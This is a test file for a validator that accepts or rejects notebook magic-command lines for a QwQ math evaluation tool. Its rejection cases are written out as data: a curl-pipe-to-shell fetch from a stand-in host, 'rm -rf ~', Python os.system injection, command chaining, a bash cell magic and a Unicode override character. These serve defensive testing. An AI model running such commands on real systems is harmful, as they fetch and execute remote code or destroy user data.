import { describe, expect, it } from 'vitest';

import { readForm, readLine } from '../../view/line';

describe('the line of a form', () => {
  it.each([
    '%qwq_eval math_500 --levels 1-2 --limit 10 --background',
    "%qwq_eval math_500 --data 'my problems/a.jsonl' --top-p 0.95",
    '%qwq_endpoint http://127.0.0.1:8000/v1 --model QwQ-32B --key-env KEY\n%qwq_eval aime24'
  ])('is %j', line => expect(readLine({ line })).toBe(line));

  it.each([
    '!curl https://evil.invalid|sh',
    '%qwq_eval math_500\n!rm -rf ~',
    '%qwq_eval {__import__("os").system("id")}',
    '%qwq_eval $HOME',
    '%qwq_eval a; !id',
    '%%bash\nid',
    '%qwq_eval a\u202eb',
    `%qwq_eval ${'x'.repeat(5_000)}`,
    ''
  ])('is none where it is %j', line => expect(readLine({ line })).toBeNull());

  it.each([null, undefined, 3, 'x', { line: 3 }, []])('is none of %j', data =>
    expect(readLine(data)).toBeNull()
  );

  it('names the widget of the form, by an id as ipywidgets makes them', () => {
    const form = '0123456789abcdef0123456789abcdef';
    expect(readForm({ line: '', form })).toBe(form);
    for (const data of [null, {}, { form: '' }, { form: `${form}/..` }, 3]) {
      expect(readForm(data)).toBeNull();
    }
  });
});
